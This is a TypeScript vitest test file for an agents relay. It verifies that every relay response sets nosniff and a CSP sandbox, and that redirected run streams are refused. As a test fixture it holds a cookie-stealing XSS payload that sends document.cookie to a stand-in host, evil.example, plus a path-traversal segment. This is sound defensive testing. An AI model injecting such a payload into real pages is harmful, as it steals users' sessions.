import { afterEach, describe, expect, it } from "vitest";
import { AgentsClient } from "../../../src/agents/index.js";
import { createAgentsRelay } from "../../../src/relay/index.js";
import { type ScriptedUpstream, scriptedUpstream } from "./relay-upstream-server.js";

// The relay answers on the app's own origin. An upstream that answers 200 with `text/html` (or SVG, or no type at
// all, for a browser to sniff) would otherwise run its script there, with the user's session, when the page — or a
// link a victim follows — opens the relay's URL. Every answer the relay makes, its own refusals included, must tell the
// browser not to sniff and not to run anything: `X-Content-Type-Options: nosniff` and a CSP `sandbox` with
// `default-src 'none'`. And a run stream the service redirected elsewhere is not handed on as the service's.

const KEY = "sk-relay-adv-0123456789abcdefghij";
const AGENT = "bc-00000000-0000-4000-8000-000000000001";
const SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
const servers: ScriptedUpstream[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) await server.close();
});

/** Why an answer could be rendered as an active document on the relay's origin ("" when it cannot). */
function renderable(response: Response): string {
  const problems: string[] = [];
  if (response.headers.get("x-content-type-options") !== "nosniff") problems.push("no nosniff");
  const csp = (response.headers.get("content-security-policy") ?? "").split(";").map((part) => part.trim());
  if (!csp.includes("sandbox")) problems.push("no CSP sandbox");
  if (!csp.includes("default-src 'none'")) problems.push("no default-src 'none'");
  return problems.join(", ");
}

describe("relay: no answer can run script on the relay's origin", () => {
  it("every kind of answer (upstream types × REST, errors, stream; every refusal): 0 without nosniff + CSP sandbox", async () => {
    let type = "";
    let status = 200;
    const upstream = await scriptedUpstream((request, response) => {
      const headers: Record<string, string> = type ? { "content-type": type } : {};
      if (request.url?.endsWith("/stream")) {
        response.writeHead(status, { ...headers, "content-type": type || "text/event-stream" });
        response.end(status === 200 ? `data: ${SCRIPT}\n\nevent: done\ndata: {}\n\n` : SCRIPT);
        return;
      }
      response.writeHead(status, headers);
      response.end(SCRIPT);
    });
    servers.push(upstream);
    const client = new AgentsClient({ apiKey: KEY, baseUrl: upstream.url, maxRetries: 0 });
    const relay = createAgentsRelay({ client, authorize: () => true, maxBodyBytes: 64 });
    const refusing = createAgentsRelay({ client, authorize: () => false });
    const failures: string[] = [];
    let answers = 0;
    const check = async (label: string, answer: Promise<Response>) => {
      const response = await answer;
      await response.arrayBuffer().catch(() => {});
      const problem = renderable(response);
      if (problem) failures.push(`${label} → ${response.status}: ${problem}`);
      answers++;
    };
    const types = ["text/html", "text/html; charset=utf-8", "image/svg+xml", "application/xhtml+xml", "text/xml", ""];
    for (type of types) {
      for (status of [200, 400, 404, 500, 503]) {
        await check(`GET ${type} ${status}`, relay(new Request(`http://app.test/v1/agents/${AGENT}`)));
        await check(
          `stream ${type} ${status}`,
          relay(new Request(`http://app.test/v1/agents/${AGENT}/runs/run-1/stream`)),
        );
      }
    }
    type = "application/json";
    status = 200;
    const json = { "content-type": "application/json" };
    const refusals: Array<[string, Promise<Response>]> = [
      ["404", relay(new Request("http://app.test/nothing"))],
      ["405", relay(new Request(`http://app.test/v1/agents/${AGENT}`, { method: "DELETE" }))],
      ["403 forbidden", refusing(new Request(`http://app.test/v1/agents/${AGENT}`))],
      [
        "403 cross_origin",
        relay(
          new Request(`http://app.test/v1/agents/${AGENT}/runs/run-1/cancel`, {
            method: "POST",
            headers: { origin: "https://evil.example" },
          }),
        ),
      ],
      ["415", relay(new Request(`http://app.test/v1/agents/${AGENT}/runs`, { method: "POST", body: '{"a":1}' }))],
      [
        "413",
        relay(
          new Request(`http://app.test/v1/agents/${AGENT}/runs`, {
            method: "POST",
            headers: json,
            body: JSON.stringify({ prompt: { text: "x".repeat(100) } }),
          }),
        ),
      ],
      [
        "400 json",
        relay(new Request(`http://app.test/v1/agents/${AGENT}/runs`, { method: "POST", headers: json, body: "{" })),
      ],
      ["400 segment", relay(new Request("http://app.test/v1/agents/%2e%2e%2fx"))],
    ];
    for (const [label, answer] of refusals) await check(label, answer);
    expect(answers).toBe(types.length * 5 * 2 + refusals.length);
    expect(failures).toEqual([]);
  });

  it("a run stream answered through a redirect elsewhere: 502, the other site's bytes never handed on", async () => {
    const elsewhere = await scriptedUpstream((_, response) => {
      response.writeHead(200, { "content-type": "text/event-stream" });
      response.end(`data: ${SCRIPT}\n\n`);
    });
    servers.push(elsewhere);
    const upstream = await scriptedUpstream((_, response) => {
      response.writeHead(307, { location: `${elsewhere.url}/stream` });
      response.end();
    });
    servers.push(upstream);
    const client = new AgentsClient({ apiKey: KEY, baseUrl: upstream.url });
    const relay = createAgentsRelay({ client, authorize: () => true });
    const answer = await relay(new Request(`http://app.test/v1/agents/${AGENT}/runs/run-1/stream`));
    const text = await answer.text();
    expect(answer.status).toBe(502);
    expect(text).not.toContain("evil.example");
  });
});
